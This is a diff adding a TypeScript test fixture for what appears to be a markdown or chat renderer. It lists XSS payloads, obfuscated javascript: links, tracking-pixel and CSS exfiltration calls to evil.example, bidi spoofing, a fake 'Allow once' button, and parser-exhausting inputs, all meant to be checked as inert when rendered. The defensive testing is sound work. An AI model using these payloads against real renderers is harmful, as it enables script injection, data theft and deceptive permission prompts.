@@ -1,0 +1,123 @@
+/** A place that nothing may ever be asked of. */
+export const ELSEWHERE = "evil.example";
+
+const url = `https://${ELSEWHERE}`;
+const script = "<script>alert(1)</script>";
+
+/**
+ * What a hostile model, page or tool result could have in an answer: each must stay words. Shown whole and cut at
+ * every place, nothing of it is run and nothing is fetched.
+ */
+export const HOSTILE: readonly string[] = [
+  // Markup
+  script,
+  `<script src="${url}/x.js"></script>`,
+  "<img src=x onerror=alert(1)>",
+  `<img src="${url}/pixel.png?leak=1">`,
+  `<img srcset="${url}/a.png 1x, ${url}/b.png 2x">`,
+  `<picture><source srcset="${url}/a.png"><img></picture>`,
+  `<video autoplay poster="${url}/p.png"><source src="${url}/v.mp4"></video>`,
+  `<audio src="${url}/a.mp3" autoplay></audio>`,
+  `<object data="${url}/o.swf"></object><embed src="${url}/e">`,
+  "text <b onmouseover=alert(1)>x</b> <svg/onload=alert(1)>",
+  `<svg><script>alert(1)</script><image href="${url}/i.png"/><use href="${url}#a"/></svg>`,
+  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
+  `<iframe src="${url}"></iframe><iframe srcdoc="${script}"></iframe>`,
+  `<style>*{background:url(${url}/css)}</style>`,
+  `<style>@import "${url}/a.css";</style>`,
+  `<link rel=stylesheet href=${url}/a.css><link rel=prefetch href=${url}/p>`,
+  `<div style="background:url(${url}/css);position:fixed;inset:0">Allow once</div>`,
+  `<meta http-equiv=refresh content="0;url=${url}">`,
+  `<base href="${url}/"><a href="x">y</a>`,
+  `<form action="${url}"><button>Allow</button><input name=a autofocus onfocus=alert(1)></form>`,
+  "<details open ontoggle=alert(1)>x</details>",
+  "<a href='javascript:alert(1)'>x</a> <a href=//evil.example>y</a>",
+  "<!--><img src=x onerror=alert(1)>-->",
+  "<![CDATA[<img src=x onerror=alert(1)>]]>",
+  "<?php alert(1) ?><!DOCTYPE x SYSTEM 'https://evil.example/x.dtd'>",
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  "<template><img src=x onerror=alert(1)></template><slot onslotchange=alert(1)>",
+  "<x onclick=alert(1) tabindex=0>z</x\n>",
+  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
+  // Links
+  "[x](javascript:alert(1))",
+  "[x](JaVaScRiPt:alert(1))",
+  "[x](java\nscript:alert(1))",
+  "[x](<java\tscript:alert(1)>)",
+  "[x](&#106;avascript:alert(1))",
+  "[x](&#x6A;avascript&colon;alert(1)) [x](javascript&#58;alert(1))",
+  "[x](\u0001javascript:alert(1)) [x](\u00a0javascript:alert(1)) [x](\ufeffjavascript:alert(1))",
+  "[x](javascript%3Aalert(1)) [x](javas\\cript:alert(1))",
+  "[x](vbscript:msgbox(1)) [x](livescript:1) [x](mocha:1)",
+  `[x](data:text/html,${script}) [x](data:text/html;base64,PHNjcmlwdD4=)`,
+  "[x](file:///etc/passwd) [x](blob:https://evil.example/1) [x](filesystem:https://evil.example/t)",
+  "[x](//evil.example/a) [x](/api/v1/sessions) [x](?delete=1) [x](#composer) [x](\\\\evil.example\\a)",
+  "[x](view-source:https://evil.example) [x](intent://evil#Intent;end) [x](ms-settings:) [x](chrome://settings)",
+  `[https://good.example](${url}/login) [x](https://good.example@evil.example/)`,
+  `[x](${url} "onmouseover=alert(1)") [x](${url}/"onclick="alert(1))`,
+  `[x](${url}/\u202egpj.exe) [\u202etxet](${url}) \u2066[a](${url})`,
+  `<javascript:alert(1)> <data:text/html,x> <${url}/auto>`,
+  `${url}/bare www.evil.example mail@evil.example ${url}/\u202efdp.exe`,
+  "[ref] [other][ref] [ref][]\n\n[ref]: javascript:alert(1)\n",
+  `[ref]\n\n[ref]: ${url} "><img src=x onerror=alert(1)>"\n`,
+  "[__proto__] [constructor] [toString]\n\n[__proto__]: javascript:alert(1)\n",
+  "[a [b](javascript:alert(1)) c](javascript:alert(2))",
+  // Images
+  `![x](${url}/pixel.png?leak=1)`,
+  "![x](javascript:alert(1)) ![x](data:image/svg+xml;base64,PHN2Zz4=) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
+  `![x](${url}/"onerror="alert(1)) ![" onload="alert(1)](${url}/a.png)`,
+  `[![x](${url}/in.png)](${url}/out)`,
+  `![x][pic]\n\n[pic]: ${url}/ref.png\n`,
+  `![x](//evil.example/a.png) ![x](\\\\evil.example\\share) ![](ftp://evil.example/a)`,
+  // Code and diagrams
+  `\`\`\`"><script>alert(1)</script>\ncode ${script}\n\`\`\`\n`,
+  "```html onload=alert(1)\n<img src=x onerror=alert(1)>\n```\n",
+  "```__proto__\nx\n```\n```constructor\ny\n```\n",
+  `\`\`\`mermaid\ngraph LR\n  A["<img src=x onerror=alert(1)>"] --> B\n  click A href "javascript:alert(1)"\n  click B call alert()\n\`\`\`\n`,
+  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "*{background:url(${url})}"}}%%\ngraph TD\n A@{img: "${url}/m.png"}\n\`\`\`\n`,
+  `\`${script}\` \`\`<img src=x onerror=alert(1)>\`\``,
+  // Formulas
+  "$\\href{javascript:alert(1)}{x}$ and \\(\\url{javascript:alert(1)}\\)",
+  `$$\\includegraphics[width=1em]{${url}/tex.png}$$`,
+  `\\[\n\\html{<img src=x onerror=alert(1)>}\\class{x" onclick="alert(1)}{y}\\style{background:url(${url})}{z}\n\\]\n`,
+  `$\\color{url(${url})}{x}\\htmlData{onclick=alert(1)}{y}\\id{composer}{z}\\cssId{a}{b}$`,
+  "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b\\b}\\b$ $\\rule{9999999em}{9999999em}$",
+  '$$\\text{<script>alert(1)</script>}\\unicode{x3C}\\char"3C$$',
+  // Notes, tables, lists
+  `x[^1] y[^a"onclick="alert(1)]\n\n[^1]: <img src=x onerror=alert(1)> [z](javascript:alert(1))\n`,
+  "x[^__proto__]\n\n[^__proto__]: a\n\n[^constructor]: b\n",
+  `| <script>alert(1)</script> |\n|---|\n| [x](javascript:alert(1)) ![y](${url}/t.png) |\n`,
+  "- [ ] <input onfocus=alert(1) autofocus>\n- [x](javascript:alert(1))\n",
+  "> <img src=x onerror=alert(1)>\n> > [x](javascript:alert(1))\n",
+  `# [x](javascript:alert(1)) <svg onload=alert(1)> {#id onclick=alert(1)}`,
+  // What imitates or hides
+  "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u001b[2J\u0000\u0008",
+  "\u202eALLOW\u202c \u2067abc\u2069 \u200b\u200d\ufeff\u{e0041}\u{e0042}",
+  '<section data-testid="ask-card"><button data-option="allow">Allow once</button></section>',
+  "\ud800 \udfff \uffff [x](https://evil.example/\ud800)",
+];
+
+/** Texts that only hurt by their size or depth. */
+export const HEAVY: Readonly<Record<string, string>> = {
+  quotes: "> ".repeat(3_000),
+  brackets: "[".repeat(5_000),
+  links: "[a](".repeat(3_000),
+  images: "![".repeat(2_000),
+  emphasis: "*a _b ".repeat(3_000),
+  stars: "*".repeat(10_000),
+  lists: Array.from({ length: 150 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n"),
+  bullets: "- ".repeat(2_000),
+  ticks: Array.from({ length: 400 }, (_, index) => "`".repeat(index + 1)).join(" "),
+  dollars: "$a ".repeat(5_000),
+  "opened formulas": "\\(".repeat(5_000),
+  braces: `$${"{".repeat(2_000)}${"}".repeat(2_000)}$`,
+  roots: `$${"\\sqrt{".repeat(500)}x${"}".repeat(500)}$`,
+  notes: "[^1]".repeat(3_000),
+  entities: "&#x3c;".repeat(5_000),
+  tags: "<a ".repeat(5_000),
+  comments: "<!--".repeat(3_000),
+  table: `|${"a|".repeat(500)}\n|${"-|".repeat(500)}\n`,
+  "a long word": "x".repeat(100_000),
+  "a long line of code": `\`\`\`js\n${"a(".repeat(30_000)}\n\`\`\`\n`,
+};
